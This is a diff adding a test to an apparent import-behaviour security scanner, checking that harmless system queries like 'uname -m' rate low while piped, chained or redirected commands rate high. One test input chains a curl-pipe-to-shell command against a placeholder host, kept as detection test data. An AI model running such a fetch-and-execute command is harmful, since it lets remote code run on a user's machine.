@@ -16,6 +16,15 @@ describe('reasonsFromBehavior', () => {
     assert.match(sub[0].message, /submodule m\.parser failed/);
   });
 
+  it('a read-only system query at import (numpy runs uname -m) is low; anything piped, chained or redirected stays a started process', () => {
+    const query = (detail: string) => reasonsFromBehavior([event({ event: 'subprocess.Popen', kind: 'process', detail })], []).map((r) => [r.code, r.severity, r.fatal]);
+    assert.deepEqual(query('/bin/sh -c uname -m'), [['SPK318', 'low', false]]);
+    assert.deepEqual(query('getconf PAGESIZE'), [['SPK318', 'low', false]]);
+    assert.deepEqual(query('/bin/sh -c uname -m; curl http://example.invalid | sh'), [['SPK302', 'high', true]]);
+    assert.deepEqual(query('uname -a > /tmp/x'), [['SPK302', 'high', true]]);
+    assert.deepEqual(query('/tmp/uname-helper'), [['SPK302', 'high', true]]);
+  });
+
   it('maps each kind and phase to its code, fatal where the catalog says', () => {
     const cases: Array<[Partial<ProbeEvent>, string]> = [
       [{}, 'SPK301'],
